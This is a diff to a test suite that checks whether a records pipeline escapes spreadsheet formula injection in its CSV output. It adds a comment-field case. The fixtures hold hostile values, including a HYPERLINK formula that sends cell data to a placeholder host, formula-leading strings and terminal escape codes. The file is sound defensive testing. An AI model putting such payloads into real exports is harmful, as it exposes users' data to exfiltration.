@@ -48,6 +48,7 @@ MARKUP_COURT = "CASC [/]SACRAMENTO\x1b[31m"
 FORMULA_NAME = '=HYPERLINK("http://x/?"&A2,"click")'
 FORMULA_CASE = "+1-555"
 FORMULA_COURT = "@SUM(1+1)"
+FORMULA_COMMENT = "-1+1 CALLED IN"  # determinations.csv carries the comment
 REVIEW_CASE = "-99"  # an unreadable charge: awaiting review
 
 ESC = "\x1b"
@@ -71,6 +72,7 @@ def hostile_extract() -> str:
             PRI_NAME=FORMULA_NAME,
             STP_ORI_DESCR=FORMULA_COURT,
             OFN=FORMULA_CASE,
+            COMMENT_TEXT=FORMULA_COMMENT,
         ),
         line(
             SUBJECT_ID="10000004",
@@ -212,6 +214,7 @@ def test_no_csv_of_a_run_or_its_filings_starts_a_formula(ran, filed):
     assert determinations["10000003"]["case_number"] == "'" + FORMULA_CASE
     assert determinations["10000003"]["court"] == "'" + FORMULA_COURT
     assert determinations["10000004"]["case_number"] == "'" + REVIEW_CASE
+    assert determinations["10000003"]["comment_text"] == "'" + FORMULA_COMMENT
     # control characters and markup are not formulas: CSV keeps them as they are
     assert determinations["10000001"]["name"] == XML_NAME
     assert determinations["10000002"]["name"] == MARKUP_NAME
